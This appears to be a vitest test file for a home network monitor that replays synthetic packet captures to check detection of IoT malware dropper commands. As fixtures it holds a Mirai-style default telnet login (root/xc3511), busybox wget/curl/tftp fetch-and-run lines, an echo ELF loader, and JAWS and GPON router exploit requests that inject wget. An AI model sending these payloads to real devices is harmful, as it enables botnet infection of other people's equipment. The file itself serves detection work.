/**
 * Dropper commands sent to a device in clear text (src/features/commands.ts): a loader's fetch
 * and run typed into a device's telnet, the echo loader, router exploits carrying wget in an
 * HTTP request's query or body, curl | sh, tftp -g typed a key at a time — each a
 * malware_download, merged with the download that follows into one episode. Traps that stay
 * silent: an interactive telnet session, a LAN admin fetching a firmware onto a device, a web
 * page that shows the text "wget" to a browser, a phone using a camera's API, random bytes.
 * Small pcaps are built with the test frame builders and written with the generator's
 * PcapWriter, then replayed in process as `homewatch replay --learn 0` does.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { PcapWriter } from '../../datasets/generator/pcap-writer.js';
import type { OutputRecord } from '../../src/sinks/records.js';
import {
  ACK,
  DEV2,
  DEV2_IP,
  FIN_ACK,
  PSH_ACK,
  SYN,
  SYN_ACK,
  T0,
  tcpIn,
  tcpOut,
  type Timed,
} from '../features/frames.js';
import { replayFiles } from '../helpers/replay.js';

const ATTACKER = [203, 0, 113, 9];
const LOADER = [198, 51, 100, 7];
const DEV_MAC = '02:11:22:33:44:55';
/** Telnet option negotiation (RFC 854): the device asks, the client refuses. */
const IAC_DO = Buffer.from([255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39]);
const IAC_WONT = Buffer.from([255, 252, 24, 255, 252, 32, 255, 252, 35, 255, 252, 39]);

const dir = mkdtempSync(join(tmpdir(), 'hw-dropper-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let fileNo = 0;
/** Writes `frames` (time order) to a pcap with the generator's writer. */
function pcap(frames: Timed[]): string {
  const path = join(dir, `t${fileNo++}.pcap`);
  const w = new PcapWriter(path);
  for (const [ts, f] of frames) {
    const at = w.begin();
    f.copy(w.buf, at);
    w.commit(ts * 1e6, f.length);
  }
  w.close();
  return path;
}

interface Peer {
  ip: number[];
  /** MAC the frames come from: the router (internet) or another LAN device. */
  mac?: number[];
}

/**
 * A TCP session another host opens to the device's `port`: the device speaks `banner` first,
 * then each of `sent` arrives as one segment (PSH) a little apart, each answered by `reply`
 * (`replyLast`: the segments of one request, acknowledged, the last answered).
 */
function toDevice(
  t: number,
  from: Peer,
  port: number,
  sent: (string | Buffer)[],
  o: { banner?: string | Buffer; reply?: string; sport?: number; replyLast?: boolean } = {},
): Timed[] {
  const sport = o.sport ?? 51_000;
  const ends = from.mac === undefined ? {} : { peerMac: from.mac };
  const inb = (flags: number, payload: string | Buffer = ''): Buffer =>
    tcpIn(from.ip, sport, flags, payload, port, ends);
  const out = (flags: number, payload: string | Buffer = ''): Buffer =>
    tcpOut(from.ip, sport, flags, payload, port, ends);
  // tcpIn / tcpOut name the remote end's port first: here the peer's is `sport`, the device's
  // service `port`.
  const frames: Timed[] = [
    [t, inb(SYN)],
    [t + 0.01, out(SYN_ACK)],
    [t + 0.02, inb(ACK)],
  ];
  let at = t + 0.05;
  if (o.banner !== undefined) frames.push([(at += 0.05), out(PSH_ACK, o.banner)]);
  sent.forEach((s, i) => {
    frames.push([(at += 0.2), inb(PSH_ACK, s)]);
    if (o.replyLast === true && i < sent.length - 1) frames.push([(at += 0.05), out(ACK)]);
    else frames.push([(at += 0.05), out(PSH_ACK, o.reply ?? '\r\n# ')]);
  });
  frames.push([(at += 0.5), inb(FIN_ACK)], [(at += 0.01), out(FIN_ACK)]);
  return frames;
}

/** Ordinary traffic of the device (a cloud check-in) so it is a device with a window. */
function checkIn(t: number): Timed[] {
  const cloud = [52, 1, 2, 3];
  return [
    [t, tcpOut(cloud, 8883, SYN, '', 40_100)],
    [t + 0.02, tcpIn(cloud, 8883, SYN_ACK, '', 40_100)],
    [t + 0.03, tcpOut(cloud, 8883, PSH_ACK, Buffer.alloc(64, 1), 40_100)],
  ];
}

function alertsOf(records: OutputRecord[]): Record<string, unknown>[] {
  return records.filter(
    (r) => r.type === 'alert' && (r as { behaviour: string }).behaviour === 'malware_download',
  ) as unknown as Record<string, unknown>[];
}

async function malware(frames: Timed[]): Promise<Record<string, unknown>[]> {
  const all = [...checkIn(T0 + 1), ...frames].sort((a, b) => a[0] - b[0]);
  const records = await replayFiles([pcap(all)], { learnS: 0 });
  return alertsOf(records).filter((r) => r.state === 'open');
}

const login = [IAC_WONT, 'root\r\n', 'xc3511\r\n', 'enable\r\n', 'system\r\n', 'sh\r\n'];
const banner = Buffer.concat([IAC_DO, Buffer.from('\r\nlogin: ')]);
const internet: Peer = { ip: ATTACKER };

describe('dropper commands sent to a device', () => {
  it('a telnet loader after a login: named, with the derived facts only', async () => {
    const cmd =
      '/bin/busybox wget http://198.51.100.7/bins/x.arm7 -O /tmp/x; chmod 777 /tmp/x; /tmp/x\r\n';
    const all = [
      ...checkIn(T0 + 1),
      ...toDevice(T0 + 5, internet, 23, [...login, cmd], { banner }),
    ];
    const records = await replayFiles([pcap(all)], { learnS: 0 });
    const found = alertsOf(records).filter((r) => r.state === 'open');
    expect(found.map((r) => r.mac)).toEqual([DEV_MAC]);
    // Nothing fetched after it in the capture: a request received, not an infection seen.
    expect(found[0].severity).toBe('medium');
    expect(found[0].summary).toMatch(
      /received a command over telnet from 203\.0\.113\.9 \(internet\) to fetch and run http:\/\/198\.51\.100\.7\/bins\/x\.arm7 \(wget\) at \d\d:\d\d UTC; no download has followed \(yet\)\.$/,
    );
    expect(found[0].evidence).toMatchObject({
      command: {
        service: 'telnet',
        tool: 'wget',
        from: '203.0.113.9',
        fromLan: false,
        runs: true,
        count: 1,
      },
    });
    // Privacy: no record carries the session's text (the password, the command line).
    const text = JSON.stringify(records);
    expect(text).not.toContain('xc3511');
    expect(text).not.toContain('chmod');
    expect(text).not.toContain('/tmp/x');
  });

  it('the echo loader (an ELF typed as hex escapes) is named', async () => {
    const echo = "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00' > .d\r\n";
    const found = await malware(toDevice(T0 + 5, internet, 23, [...login, echo], { banner }));
    expect(found).toHaveLength(1);
    // The program is in the command itself: high, "was sent".
    expect(found[0].severity).toBe('high');
    expect(found[0].summary).toMatch(
      /was sent a command over telnet from 203\.0\.113\.9 \(internet\) to write a Linux program \(ELF\) through its shell and run it \(echo loader\)/,
    );
  });

  it('an exploit with wget in the URL query (JAWS /shell?, %-encoded) is named', async () => {
    const req =
      'GET /shell?cd+/tmp;rm+-rf+*;wget+http%3A%2F%2F198.51.100.7%2Fjaws;sh+/tmp/jaws HTTP/1.1\r\n' +
      'User-Agent: Hello, world\r\nHost: 192.168.1.10:80\r\nAccept: */*\r\n\r\n';
    const found = await malware(
      toDevice(T0 + 5, internet, 80, [req], { reply: 'HTTP/1.1 404 Not Found\r\n\r\n' }),
    );
    expect(found).toHaveLength(1);
    // The web server answered 404 and nothing was fetched: the exploit was received, medium.
    expect(found[0].severity).toBe('medium');
    expect(found[0].summary).toContain(
      'received a command in a request to its web server (port 80) from 203.0.113.9 (internet) to fetch and run http://198.51.100.7/jaws (wget)',
    );
    expect(found[0].summary).toMatch(/; no download has followed \(yet\)\.$/);
    // The advice is to close the way in, not yet to reset the device.
    expect(String((found[0].evidence as { advice: unknown }).advice)).toMatch(
      /no download has been seen: make sure port 80 of the device is not open to the internet/,
    );
  });

  it('an exploit with wget in a POST body cut over two segments (GPON) is named', async () => {
    const body =
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0';
    const head =
      'POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n' +
      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n`;
    // The body cut inside the URL: the command is read across the segments.
    const cut = body.indexOf('100.7');
    const found = await malware(
      toDevice(T0 + 5, internet, 8080, [head + body.slice(0, cut), body.slice(cut)], {
        reply: 'HTTP/1.1 200 OK\r\n\r\n',
        replyLast: true,
      }),
    );
    expect(found).toHaveLength(1);
    expect(found[0].summary).toContain('to fetch and run http://198.51.100.7/gpon (wget)');
  });

  it('curl | sh from another LAN device on 2323 names the neighbour', async () => {
    const neighbour: Peer = { ip: DEV2_IP, mac: DEV2 };
    const found = await malware(
      toDevice(
        T0 + 5,
        neighbour,
        2323,
        [...login, 'cd /tmp; curl -s http://198.51.100.7/i.sh | sh\r\n'],
        { banner },
      ),
    );
    expect(found.map((r) => r.mac)).toEqual([DEV_MAC]);
    expect(found[0].summary).toContain(
      'over telnet (port 2323) from 192.168.1.11 (a LAN device) to fetch and run http://198.51.100.7/i.sh (curl)',
    );
  });

  it('tftp -g typed a key at a time, its chmod on the next line, is a fetch and run', async () => {
    const typed = [...'tftp -g -r x.mips -l /tmp/x 198.51.100.7\r\nchmod 777 /tmp/x\r\n'];
    const found = await malware(toDevice(T0 + 5, internet, 23, [...login, ...typed], { banner }));
    expect(found).toHaveLength(1);
    expect(found[0].summary).toContain('to fetch and run tftp://198.51.100.7/x.mips (tftp)');
  });

  /** The device fetching `elf` from LOADER over HTTP at `t`. */
  function fetchElf(t: number): Timed[] {
    const elf = Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0]),
      Buffer.alloc(600, 7),
    ]);
    const get = 'GET /bins/x.arm7 HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Wget\r\n\r\n';
    const head = `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${elf.length}\r\n\r\n`;
    return [
      [t, tcpOut(LOADER, 80, SYN, '', 40_200)],
      [t + 0.01, tcpIn(LOADER, 80, SYN_ACK, '', 40_200)],
      [t + 0.02, tcpOut(LOADER, 80, PSH_ACK, get, 40_200)],
      [t + 0.05, tcpIn(LOADER, 80, PSH_ACK, Buffer.concat([Buffer.from(head), elf]), 40_200)],
    ];
  }
  const cmd = 'cd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod +x x.arm7; ./x.arm7\r\n';

  it('the command and the download it asked for are one episode', async () => {
    const t = T0 + 5;
    const found = await malware([
      ...toDevice(t, internet, 23, [...login, cmd], { banner }),
      ...fetchElf(t + 3),
    ]);
    expect(found).toHaveLength(1);
    expect(found[0].severity).toBe('high');
    expect(found[0].summary).toMatch(
      /was sent a command over telnet .* to fetch and run http:\/\/198\.51\.100\.7\/bins\/x\.arm7 \(wget\) at .*; it downloaded a Linux program \(ELF\) from a bare IP address: http:\/\/198\.51\.100\.7\/bins\/x\.arm7/,
    );
    expect(found[0].score).toBeGreaterThan(0.98);
  });

  it('a download in the next window joins the command’s episode, raising it to high at once', async () => {
    const t = T0 + 5;
    const all = [
      ...checkIn(T0 + 1),
      ...toDevice(t, internet, 23, [...login, cmd], { banner }),
      ...fetchElf(t + 70),
    ].sort((a, b) => a[0] - b[0]);
    const alerts = alertsOf(await replayFiles([pcap(all)], { learnS: 0 }));
    expect(alerts.filter((r) => r.state === 'open')).toHaveLength(1);
    expect(new Set(alerts.map((r) => r.episode)).size).toBe(1);
    // Opened medium (a command alone), then an update as soon as the download's window
    // closes (not UPDATE_S later), high, saying what was fetched.
    expect(alerts.map((r) => [r.state, r.severity])).toEqual([
      ['open', 'medium'],
      ['update', 'high'],
      ['closed', 'high'],
    ]);
    expect(alerts[0].summary).toMatch(/; no download has followed \(yet\)\.$/);
    const [open, update] = alerts as { ts: number; summary: string }[];
    expect(update.ts - open.ts).toBe(60);
    expect(update.summary).toMatch(
      /was sent a command .*\(wget\) at .*; it downloaded a Linux program \(ELF\)/,
    );
    expect(alerts[2].summary).toBe(update.summary);
    // Advice follows: close the way in while nothing was fetched; reset once something was.
    const advice = alerts.map((r) => String((r.evidence as { advice: unknown }).advice));
    expect(advice[0]).toMatch(/no download has been seen/);
    expect(advice[1]).toMatch(/^A program was downloaded in clear text/);
  });
});

describe('what is not a dropper command', () => {
  it('an interactive telnet session (ls, cat, ps typed a key at a time) is silent', async () => {
    const typed = [...'ls -la\r\ncat /etc/passwd\r\nps w\r\nexit\r\n'];
    expect(await malware(toDevice(T0 + 5, internet, 23, [...login, ...typed], { banner }))).toEqual(
      [],
    );
  });

  it('a LAN admin fetching a firmware onto a device (no run step) is silent', async () => {
    const admin: Peer = { ip: DEV2_IP, mac: DEV2 };
    const cmd = 'wget http://download.vendor-example.com/fw/cam-2.1.bin -O /tmp/fw.bin\r\n';
    expect(await malware(toDevice(T0 + 5, admin, 23, [...login, cmd], { banner }))).toEqual([]);
    // Nor from a file server on the LAN by address.
    const lan = 'cd /tmp; tftp -g -r cam-2.1.bin -l fw.bin 192.168.1.11\r\n';
    expect(await malware(toDevice(T0 + 5, admin, 23, [...login, lan], { banner }))).toEqual([]);
  });

  it('a web page that shows "wget … | sh" to the device as a browser is silent', async () => {
    const page =
      '<html><body><pre>cd /tmp; wget http://198.51.100.7/install.sh; chmod +x install.sh; ./install.sh\n' +
      'curl -s http://198.51.100.7/i.sh | sh</pre></body></html>';
    const resp = `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${page.length}\r\n\r\n${page}`;
    const web = [93, 184, 216, 34];
    const t = T0 + 5;
    const frames: Timed[] = [
      [t, tcpOut(web, 80, SYN, '', 40_300)],
      [t + 0.01, tcpIn(web, 80, SYN_ACK, '', 40_300)],
      [
        t + 0.02,
        tcpOut(web, 80, PSH_ACK, 'GET /docs HTTP/1.1\r\nHost: example.com\r\n\r\n', 40_300),
      ],
      [t + 0.05, tcpIn(web, 80, PSH_ACK, resp, 40_300)],
    ];
    expect(await malware(frames)).toEqual([]);
  });

  it('a phone using a camera’s HTTP API is silent', async () => {
    const phone: Peer = { ip: DEV2_IP, mac: DEV2 };
    const body = '{"cmd":"setMotion","enable":true,"sensitivity":5}';
    const reqs = [
      'GET /cgi-bin/api.cgi?cmd=GetDevInfo&user=admin HTTP/1.1\r\nHost: 192.168.1.10\r\n\r\n',
      `POST /cgi-bin/api.cgi?cmd=SetMdAlarm HTTP/1.1\r\nHost: 192.168.1.10\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    ];
    expect(
      await malware(toDevice(T0 + 5, phone, 80, reqs, { reply: 'HTTP/1.1 200 OK\r\n\r\n' })),
    ).toEqual([]);
  });
});
